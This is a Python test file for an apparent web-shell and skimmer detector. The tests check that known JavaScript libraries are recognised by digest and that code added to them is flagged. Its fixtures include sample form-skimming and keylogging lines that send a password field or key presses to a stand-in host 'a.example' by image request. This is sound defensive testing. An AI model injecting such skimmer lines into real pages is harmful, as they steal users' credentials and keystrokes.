"""Released libraries are known by digests, and whatever is not theirs is run."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from webshellhunt.analysis.browser import released
from webshellhunt.analysis.browser.released import (
    DIGEST_BYTES,
    MAGIC,
    SHORTEST_STATEMENT,
    digest_of_statement,
    digest_of_text,
    is_released_statement,
    is_released_text,
    packed,
    stops_submission,
    unpacked,
)
from webshellhunt.analysis.browser.source import piece_of, source_of
from webshellhunt.client_scripts.exfiltration import Destination
from webshellhunt.client_scripts.script_analysis import Script, ScriptAnalysis, analyse_scripts
from webshellhunt.decoding.charset import DecodedText
from webshellhunt.lang.parser import parse
from webshellhunt.lang.tokens import tokenize
from webshellhunt.pages.includes.resolver import Resolution
from webshellhunt.pages.page import Dependency, DependencyKind

STATEMENTS = [
    "(function ($) {\n"
    + "".join(f"  $.fn.box{box} = function (name) {{ return this.attr('data-{box}', name); }};\n" for box in range(12))
    + "})(jQuery);",
    "var Boxes = {\n"
    + "".join(f"  open{box}: function (all) {{ return all.concat([{box}]); }},\n" for box in range(12))
    + "  size: 12 };",
    "function boxed(a) { return a; }",
]
LIBRARY = "/* Boxes 1.0 */\n" + "\n".join(STATEMENTS) + "\n"
FORM = '<form id="f" action="in.aspx"><input type="password" id="pw"></form><script src="a.js"></script>'
THEFT = 'new Image().src = "//a.example/?" + document.getElementById("pw").value;'
LOGGER = 'document.onkeypress = function (e) { new Image().src = "/a.gif?" + e.key; };'


@pytest.fixture(autouse=True)
def _boxes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the library be a released one."""
    tokens = tokenize(LIBRARY, "jscript")
    digests = {digest_of_text(LIBRARY)}
    for each in parse(tokens).top.statements:
        if each.end - each.start >= SHORTEST_STATEMENT:
            digests.add(digest_of_statement(tokens, each.start, each.end))
    assert len(digests) == 3
    rows = packed(digests).removeprefix(MAGIC)
    monkeypatch.setattr(released, "_rows", lambda: rows)


def _script(text: str) -> Script:
    dependency = Dependency(DependencyKind.CLIENT_SCRIPT, "a.js", 0, 0)
    resolution = Resolution(dependency, path="a.js", data=text.encode())
    return resolution, DecodedText("ascii", "ascii", text, text.encode())


def _analysed(library: str, own: str = "") -> ScriptAnalysis:
    page = f"{FORM}<script>{own}</script>"
    return analyse_scripts(page, lambda *_: _script(library), is_script=False)


def _places(analysis: ScriptAnalysis, text: str) -> list[str]:
    """Return the code at the places of what leaves the page, all in the file."""
    found = [analysis.place(each.place) for each in analysis.exfiltrations]
    assert all(script is not None for script, _, _ in found)
    return [text[start:end] for _, start, end in found]


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text,
        lambda text: "\ufeff" + text,
        lambda text: text.replace("\n", "\r\n"),
        lambda text: text.replace("\n", "\r"),
        lambda text: text.strip(),
        lambda text: text + "\n//# sourceMappingURL=boxes.js.map\n",
        lambda text: text + "//@ sourceMappingURL=boxes.js.map",
    ],
)
def test_a_file_is_known_however_it_was_copied(change: Callable[[str], str]) -> None:
    assert is_released_text(change(LIBRARY))


@pytest.mark.parametrize(
    "changed",
    [
        LIBRARY + ";",
        LIBRARY.replace("Boxes", "boxes"),
        LIBRARY.replace("'data-3'", "'data-03'"),
        LIBRARY + "\n//# sourceMappingURL=boxes.js.map\nf()",
        LIBRARY[:-40],
        LIBRARY * 2,
        "",
    ],
)
def test_a_changed_file_is_not_known(changed: str) -> None:
    assert not is_released_text(changed)


def test_a_statement_is_known_without_blanks_and_comments() -> None:
    for text in (STATEMENTS[0], STATEMENTS[0].replace("\n", " "), STATEMENTS[0].replace("{", "{ /* a */ ")):
        tokens = tokenize(text, "jscript")
        assert is_released_statement(tokens, 0, len(tokens) - 1)
    for text in (STATEMENTS[0].replace("name", "nome"), STATEMENTS[0].replace("'data-3'", "data"), STATEMENTS[2]):
        tokens = tokenize(text, "jscript")
        assert not any(is_released_statement(tokens, 0, len(tokens) - less) for less in (0, 1))


def test_statements_of_a_library_are_not_run_and_all_others_are() -> None:
    source = source_of([piece_of(f"a();\n{STATEMENTS[1]}\nb();\n{STATEMENTS[0]}\n{STATEMENTS[2]}")])
    assert [source.text_of(each) for each in source.scripts[0].top.statements] == ["a()", "b()", STATEMENTS[2]]
    assert [source.text_of(each) for each in source.scripts[0].parsed.functions] == [STATEMENTS[2]]


def test_nothing_leaves_by_a_library_alone() -> None:
    assert not _analysed(LIBRARY).exfiltrations


def test_the_scripts_of_the_page_are_run() -> None:
    (found,) = _analysed(LIBRARY, THEFT).exfiltrations
    assert found.address.destination is Destination.FOREIGN


@pytest.mark.parametrize("added", [THEFT, LOGGER])
@pytest.mark.parametrize("place", ["before", "between", "after"])
def test_what_is_added_to_a_library_is_run(added: str, place: str) -> None:
    first, rest = LIBRARY.split("\nvar Boxes")
    texts = {
        "before": f"{added}\n{LIBRARY}",
        "between": f"{first}\n{added}\nvar Boxes{rest}",
        "after": f"{LIBRARY}\n{added}",
    }
    analysis = _analysed(texts[place])
    assert _places(analysis, texts[place]) == ["src"]


def test_a_statement_that_was_changed_is_run() -> None:
    text = LIBRARY.replace("all.concat([7])", f"{THEFT} all.concat([7])".replace("return", ""))
    text = text.replace("return new Image", "new Image")
    assert _places(_analysed(text), text) == ["src"]


def test_a_function_inside_a_library_that_takes_keys_to_another_host_is_found() -> None:
    taken = "document.onkeypress = function (e) { new Image().src = '//a.example/?' + e.key; };"
    text = LIBRARY.replace("(function ($) {", f"(function ($) {{ {taken}")
    assert _places(_analysed(text), text) == ["src"]


def test_a_library_may_stop_the_submission_of_a_form() -> None:
    assert _analysed(LIBRARY).targets == {"in.aspx"}
    assert not stops_submission(LIBRARY)
    for code in ("e.preventDefault();", "return false;", "return (false);"):
        assert stops_submission(f"function f(e) {{ {code} }}")


def test_the_shipped_digests_are_sorted_and_small() -> None:
    content = released._DATA.read_bytes()
    assert content.startswith(MAGIC)
    assert packed(unpacked(content)) == content
    assert 100_000 < len(content) < 400_000
    assert (len(content) - len(MAGIC)) % DIGEST_BYTES == 0
